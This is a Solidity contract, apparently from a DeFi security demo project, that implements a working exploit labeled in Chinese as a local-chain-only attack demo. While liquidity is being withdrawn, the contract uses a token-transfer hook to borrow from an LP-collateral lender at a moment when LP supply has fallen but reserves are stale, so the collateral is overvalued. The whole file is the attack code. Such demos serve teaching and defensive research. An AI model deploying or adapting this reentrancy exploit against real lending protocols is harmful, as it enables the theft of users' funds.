// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20, SafeToken} from "../tokens/SafeToken.sol";
import {HookedToken, ITokenReceiver} from "./HookedToken.sol";
import {LpLender} from "./LpLender.sol";

interface IBurnablePair {
    function burn(address to) external returns (uint256 amount0, uint256 amount1);
}

/// 攻击演示，只在本地链使用：取回流动性时，在代币的钩子里以虚高的估值抵押余下的 LP 代币。
contract LpHookAttackDemo is ITokenReceiver {
    using SafeToken for IERC20;

    HookedToken public immutable hooked;
    IERC20 public immutable usdt;
    IERC20 public immutable pair;

    LpLender private lender;
    uint256 private collateral;

    constructor(HookedToken hooked_, IERC20 usdt_, IERC20 pair_) {
        (hooked, usdt, pair) = (hooked_, usdt_, pair_);
        hooked_.register();
    }

    // #region attack
    /// 调用前须授权本合约使用 LP 代币：burned 个取回，collateral_ 个留作抵押。
    function attack(LpLender lender_, uint256 burned, uint256 collateral_) external {
        (lender, collateral) = (lender_, collateral_);
        pair.safeTransferFrom(msg.sender, address(this), collateral_);
        pair.safeTransferFrom(msg.sender, address(pair), burned);
        IBurnablePair(address(pair)).burn(address(this));

        usdt.safeTransfer(msg.sender, usdt.balanceOf(address(this)));
        hooked.transfer(msg.sender, hooked.balanceOf(address(this)));
    }

    /// 由代币在转账的中途调用：LP 总量已经减少，储备量还是旧的。
    function tokensReceived(address from, uint256) external {
        require(msg.sender == address(hooked) && from == address(pair));
        pair.safeApprove(address(lender), collateral);
        lender.borrow(collateral);
    }
    // #endregion attack
}
